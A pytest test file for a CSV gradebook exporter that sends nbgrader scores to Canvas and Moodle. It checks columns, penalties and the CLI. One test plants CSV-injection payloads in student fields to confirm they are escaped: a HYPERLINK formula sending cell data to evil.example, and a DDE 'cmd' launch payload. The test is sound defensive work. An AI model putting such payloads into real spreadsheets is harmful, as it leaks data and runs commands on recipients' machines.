"""`trustkit export --to canvas|moodle`: the columns each platform's gradebook import reads,
scores as nbgrader has them, CSV-injection safe cells, refusal while manual grading is pending.

The gradebook is built with nbgrader's own API (no kernel, no notebooks). The examples printed in
docs/deploy.md ("Grades to the learning platform") are this module's output for the same
gradebook, compared byte for byte, so the documented format and the export cannot drift apart.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import warnings
from pathlib import Path

import pytest

from trustkit.cli import main
from trustkit.errors import TrustkitError
from trustkit.grading import lms

from ..conftest import ROOT

pytest.importorskip("nbgrader")

DOCS = ROOT / "docs" / "deploy.md"

# (id, first, last, email, lms_user_id, auto score of t1 (of 4), t2 (of 6), reflection (of 4))
STUDENTS = [
    ("amara.okafor", "Amara", "Okafor", "amara.okafor@example.edu", "1001", 4, 5.5, 3),
    ("jonas.berg", "Jonas", "Berg", "jonas.berg@example.edu", "1002", 2, 3.25, 1),
    ("li.wei", "Wei", "Li", "li.wei@example.edu", "", None, None, None),  # did not submit
]


@pytest.fixture(scope="module")
def empty_gradebook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An empty gradebook, made once: nbgrader runs `alembic heads` for every new one (slow)."""
    from nbgrader.api import Gradebook

    path = tmp_path_factory.mktemp("empty") / "gradebook.db"
    Gradebook(f"sqlite:///{path}").close()
    return path


def build_gradebook(
    empty: Path,
    course: Path,
    students=STUDENTS,
    *,
    pending: tuple[str, ...] = (),
    penalty: dict[str, float] | None = None,
) -> Path:
    """A course folder whose gradebook.db holds ps01-trust (4 + 6 auto, 4 manual points)."""
    from nbgrader.api import Gradebook
    from sqlalchemy.exc import SAWarning

    course.mkdir(parents=True, exist_ok=True)
    shutil.copy(empty, course / "gradebook.db")
    with warnings.catch_warnings(), Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        # nbgrader's own add_submission triggers a SQLAlchemy autoflush warning; not ours
        warnings.simplefilter("ignore", SAWarning)
        gb.add_assignment("ps01-trust")
        gb.add_notebook("ps01-trust", "ps01-trust")
        for name, points, kind in (("t1", 4, "code"), ("t2", 6, "code"), ("refl", 4, "markdown")):
            gb.add_grade_cell(name, "ps01-trust", "ps01-trust", max_score=points, cell_type=kind)
        for sid, first, last, email, lms_id, t1, t2, refl in students:
            gb.add_student(sid, first_name=first, last_name=last, email=email, lms_user_id=lms_id)
            if t1 is None:
                continue
            sub = gb.add_submission("ps01-trust", sid)
            for name, value in (("t1", t1), ("t2", t2)):
                grade = gb.find_grade(name, "ps01-trust", "ps01-trust", sid)
                grade.auto_score, grade.needs_manual_grade = value, False
            refl_grade = gb.find_grade("refl", "ps01-trust", "ps01-trust", sid)
            if sid not in pending:  # marked in formgrader: a manual score, nothing left to do
                refl_grade.manual_score, refl_grade.needs_manual_grade = refl, False
            if penalty and sid in penalty:
                sub.notebooks[0].late_submission_penalty = penalty[sid]
            gb.db.commit()
    return course


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def course(empty_gradebook: Path, tmp_path: Path) -> Path:
    return build_gradebook(empty_gradebook, tmp_path / "course")


def test_canvas_columns_and_rows(course: Path) -> None:
    grades = lms.read_grades(course, "ps01-trust")
    assert grades.max_score == 14
    table = rows(lms.render(grades, "canvas"))
    # Canvas: Student, ID, SIS User ID, SIS Login ID, Section, then the assignment columns
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "ps01-trust"]
    # the second row of Canvas's own export: points possible under the assignment
    assert table[1] == ["Points Possible", "", "", "", "", "14"]
    assert table[2:] == [
        ["Okafor, Amara", "1001", "", "amara.okafor", "", "12.5"],
        ["Berg, Jonas", "1002", "", "jonas.berg", "", "6.25"],
        ["Li, Wei", "", "", "li.wei", "", ""],  # no submission: blank, Canvas leaves it alone
    ]


def test_moodle_columns_and_rows(course: Path) -> None:
    table = rows(lms.render(lms.read_grades(course, "ps01-trust"), "moodle"))
    # Moodle's CSV import maps a user column (username / useridnumber / useremail) and grade columns
    assert table[0] == [
        "Username",
        "ID number",
        "Email address",
        "First name",
        "Last name",
        "ps01-trust",
    ]
    assert table[1:] == [
        ["amara.okafor", "1001", "amara.okafor@example.edu", "Amara", "Okafor", "12.5"],
        ["jonas.berg", "1002", "jonas.berg@example.edu", "Jonas", "Berg", "6.25"],
        ["li.wei", "", "li.wei@example.edu", "Wei", "Li", ""],
    ]


def test_existing_column_zero_missing_and_late_penalty(
    empty_gradebook: Path, tmp_path: Path
) -> None:
    course = build_gradebook(
        empty_gradebook, tmp_path / "c", penalty={"amara.okafor": 2.0, "jonas.berg": 50}
    )
    grades = lms.read_grades(course, "ps01-trust")
    table = rows(lms.render(grades, "canvas", "Problem set 1 (4567)", zero_missing=True))
    assert table[0][-1] == "Problem set 1 (4567)"
    by_login = {r[3]: r[5] for r in table[2:]}
    # late penalty subtracted, never below 0; no submission: 0 when asked
    assert by_login == {"amara.okafor": "10.5", "jonas.berg": "0", "li.wei": "0"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_csv_injection_is_escaped(empty_gradebook: Path, tmp_path: Path, start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    students = [("s1", evil, f"{start}1+1", f"{start}cmd|' /C calc'!A0", evil, 3, 3, 3)]
    course = build_gradebook(empty_gradebook, tmp_path / "c", students)
    grades = lms.read_grades(course, "ps01-trust")
    for platform in lms.PLATFORMS:
        text = lms.render(grades, platform, column=f"{start}SUM(A1:A9)")
        table = rows(text)
        cells = [c for r in table for c in r]
        assert not any(c.startswith(lms.FORMULA_STARTS) for c in cells), (platform, cells)
        assert f"'{evil}" in cells
        assert f"'{start}SUM(A1:A9)" in cells
        # every text cell is quoted, so a separator or newline inside it stays inside it
        assert all(line.startswith('"') for line in text.split("\r\n") if line)


def test_safe_cell() -> None:
    assert lms.safe_cell("=1+1") == "'=1+1"
    assert lms.safe_cell("Okafor") == "Okafor"
    assert lms.safe_cell(" =1") == " =1"  # a leading space is not a formula
    assert lms.safe_cell(None) == ""


def test_pending_manual_grading_refused_unless_allowed(
    empty_gradebook: Path, tmp_path: Path
) -> None:
    course = build_gradebook(empty_gradebook, tmp_path / "c", pending=("jonas.berg",))
    out = tmp_path / "grades.csv"
    with pytest.raises(TrustkitError, match=r"jonas\.berg.*--allow-pending"):
        lms.export(course, "ps01-trust", "canvas", str(out))
    assert not out.exists()
    lms.export(course, "ps01-trust", "canvas", str(out), allow_pending=True)
    assert {r[3]: r[5] for r in rows(out.read_text())[2:]}["jonas.berg"] == "5.25"


def test_cli(course: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "canvas.csv"
    code = main(["export", "ps01-trust", "--to", "canvas", str(out), "--course-dir", str(course)])
    stdout, stderr = capsys.readouterr()
    assert code == 0, stderr
    assert "3 student(s), 2 with a grade out of 14" in stdout
    assert rows(out.read_text())[0][3] == "SIS Login ID"
    # standard output
    assert main(["export", "ps01-trust", "--to", "moodle", "-", "--course-dir", str(course)]) == 0
    assert rows(capsys.readouterr().out)[0][0] == "Username"
    # one line, exit 1, for an unknown assignment or a folder without a gradebook
    assert main(["export", "ps9", "--to", "moodle", str(out), "--course-dir", str(course)]) == 1
    err = capsys.readouterr().err
    assert "no assignment 'ps9'" in err and "ps01-trust" in err and len(err.splitlines()) == 1
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["export", "ps01-trust", "--to", "canvas", str(out), "--course-dir", str(empty)])
    assert "no gradebook" in capsys.readouterr().err
    with pytest.raises(SystemExit) as info:
        main(["export", "ps01-trust", "--to", "blackboard", str(out)])
    assert info.value.code == 2


def _documented(platform: str) -> str:
    """The example CSV docs/deploy.md shows for ``platform`` (a fenced block after a marker)."""
    text = DOCS.read_text(encoding="utf-8")
    found = re.search(
        rf"<!-- export-example: {platform} -->\s*```csv\n(.*?)```", text, flags=re.DOTALL
    )
    assert found, f"docs/deploy.md has no '<!-- export-example: {platform} -->' block"
    return found.group(1)


@pytest.mark.parametrize("platform", lms.PLATFORMS)
def test_documented_example_is_what_export_writes(course: Path, platform: str) -> None:
    written = lms.render(lms.read_grades(course, "ps01-trust"), platform)
    assert written.replace("\r\n", "\n") == _documented(platform)


def test_docs_cite_the_platforms_import_pages() -> None:
    text = DOCS.read_text(encoding="utf-8")
    assert "community.canvaslms.com" in text  # Canvas: How do I import grades in the Gradebook?
    assert "docs.moodle.org" in text  # Moodle: Grade import
